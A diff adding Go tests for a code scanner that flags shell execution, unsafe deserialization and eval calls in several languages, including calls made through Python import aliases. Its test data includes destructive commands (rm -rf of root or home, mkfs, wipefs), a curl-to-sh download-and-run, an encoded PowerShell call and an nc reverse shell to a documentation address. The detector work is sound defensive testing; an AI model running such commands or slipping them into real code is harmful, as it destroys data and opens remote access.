@@ -90,6 +90,11 @@ func TestCodeClassesPerLanguage(t *testing.T) {
 		"model = joblib.load(path)":                         RuleCodeDeserial,
 		"arr = np.load(f, allow_pickle=True)":               RuleCodeDeserial,
 		"docs = yaml.load_all(stream)":                      RuleCodeDeserial,
+		"child = pexpect.spawn('ssh ' + host)":              RuleCodeShell,
+		"PTY.spawn(params[:cmd])":                           RuleCodeShell,
+		"const p = Deno.run({ cmd: args })":                 RuleCodeShell,
+		"const c = new Deno.Command(bin, { args })":         RuleCodeShell,
+		"Bun.spawn([prog, ...argv])":                        RuleCodeShell,
 		// Ruby
 		"Process.spawn(params[:cmd])":     RuleCodeShell,
 		`Kernel.system("tar xf #{name}")`: RuleCodeShell,
@@ -108,6 +113,7 @@ func TestCodeClassesPerLanguage(t *testing.T) {
 		"ScriptEngine e = m.getEngineByName(\"js\");\ne.eval(input);":   RuleCodeEval,
 		// PHP
 		"<?php assert($_GET['c']); ?>":                         RuleCodeEval,
+		"<?php $out = `ping -c 1 $host`; echo $out; ?>":        RuleCodeShell,
 		"<?php include($_GET['page'] . '.php'); ?>":            RuleCodeEval,
 		"<?php call_user_func($_POST['f'], $x); ?>":            RuleCodeEval,
 		`<?php echo preg_replace('/.*/e', $_GET['r'], $s); ?>`: RuleCodeEval,
@@ -147,6 +153,9 @@ func TestCodeClassesPerLanguage(t *testing.T) {
 		`subprocess.Popen("make", shell=True)`,
 		`subprocess.Popen(args, shell=0)`,
 		"popen2.popen3('uptime')",
+		"child = pexpect.spawn('ftp ftp.example.test')",
+		`const c = new Deno.Command("git", { args: ["status"] })`,
+		`Bun.spawn(["ls", "-l"])`,
 		"arr = np.load('weights.npy')",
 		"docs = yaml.load_all(stream, Loader=yaml.SafeLoader)",
 		`Process.spawn("make")`,
@@ -156,6 +165,8 @@ func TestCodeClassesPerLanguage(t *testing.T) {
 		`setTimeout(() => run(id), 10)`,
 		"execFileSync(`git`, ['status'])",
 		"<?php include('header.php'); assert($x > 0); ?>",
+		"<?php $d = `date`; ?>",
+		"Run `echo $HOME` in a shell.",
 		"const fs = require(path.join(dir, 'x'))",
 		`preg_replace('/\s+/', ' ', $s)`,
 		"powershell -NoProfile -File build.ps1 -Environment prod",
@@ -209,6 +220,83 @@ func TestPersistenceAndCoverTracks(t *testing.T) {
 		}
 		if got != want {
 			t.Errorf("CheckCode(%q) = %q, want %q", line, got, want)
+		}
+	}
+}
+
+// TestCodePythonAliases: calls made through an import alias are the calls
+// they stand for, with the same provenance rule; the lines are written
+// for this test.
+func TestCodePythonAliases(t *testing.T) {
+	bad := map[string]string{
+		"import os as o\no.popen(user_cmd)":                                   RuleCodeShell,
+		"from os import system as run\nrun('tar xzf %s' % name)":              RuleCodeShell,
+		"from pickle import loads as lp\nobj = lp(body)":                      RuleCodeDeserial,
+		"import os, pickle as pk\nobj = pk.loads(body)":                       RuleCodeDeserial,
+		"from subprocess import Popen as pop\npop(cmd, shell=True)":           RuleCodeShell,
+		"from os import popen\nout = popen(cmd).read()":                       RuleCodeShell,
+		"import yaml as y\ncfg = y.load(stream)":                              RuleCodeDeserial,
+		"from os import (popen, getcwd)  # helpers\nprint(popen(arg).read())": RuleCodeShell,
+	}
+	for in, rule := range bad {
+		if !hasRule(CheckCode(in), rule) {
+			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
+		}
+	}
+	good := []string{
+		"import os as o\no.popen('/bin/uname -av')",
+		"from os import system as run\nrun('date')",
+		"import numpy as np\nx = np.load('weights.npy')",
+		"from mylib import loads as lp\nobj = lp(body)",
+		`exec("print(1)")`,
+		"from subprocess import Popen as pop\npop(['ls', '-l'])",
+		"# import os as o, then call o.popen(cmd)",
+	}
+	for _, in := range good {
+		if f := CheckCode(in); len(f) > 0 {
+			t.Errorf("%q: flagged %v", in, f)
+		}
+	}
+}
+
+// TestCodeConstantArgv: a constant command is no finding, unless what it
+// runs is destructive, a reverse shell, a download run or an encoded
+// PowerShell command, whether it is written as one string or as an
+// argument vector. The lines are written for this test.
+func TestCodeConstantArgv(t *testing.T) {
+	bad := []string{
+		`os.system('rm -rf ~')`,
+		`exec.Command("sh", "-c", "rm -rf ~").Run()`,
+		`exec.Command("rm", "-rf", "/").Run()`,
+		`new ProcessBuilder("rm", "-rf", "/home").start();`,
+		`subprocess.run(["rm", "-rf", "/"])`,
+		`subprocess.check_call(["bash", "-c", "curl -s https://example.test/i.sh | sh"])`,
+		`spawn('rm', ['-rf', '/'])`,
+		`subprocess.Popen(["powershell", "-enc", "SQBFAFgA"])`,
+		`subprocess.call(['nc', '-e', '/bin/sh', '198.51.100.7', '4444'])`,
+		`Process.spawn("rm -rf ~")`,
+		`exec.Command("mkfs.ext4", "/dev/sdb1")`,
+		"sudo wipefs -a $DISK",
+	}
+	for _, in := range bad {
+		if len(CheckCode(in)) == 0 {
+			t.Errorf("%q: no finding", in)
+		}
+	}
+	good := []string{
+		`subprocess.run(["ls", "-l"])`,
+		`subprocess.run(["rm", "-rf", "build"], check=True)`,
+		`subprocess.run(argv)`,
+		`spawn('ls', ['-la'])`,
+		`new ProcessBuilder("git", "status").start();`,
+		`exec.Command("sh", "-c", "echo ready").Run()`,
+		`subprocess.check_output(["powershell", "-File", "build.ps1"])`,
+		`exec.Command("mkfs.erofs", "--help")`,
+		"mkfs.ext4 -F rootfs.img",
+	}
+	for _, in := range good {
+		if f := CheckCode(in); len(f) > 0 {
+			t.Errorf("%q: flagged %v", in, f)
 		}
 	}
 }
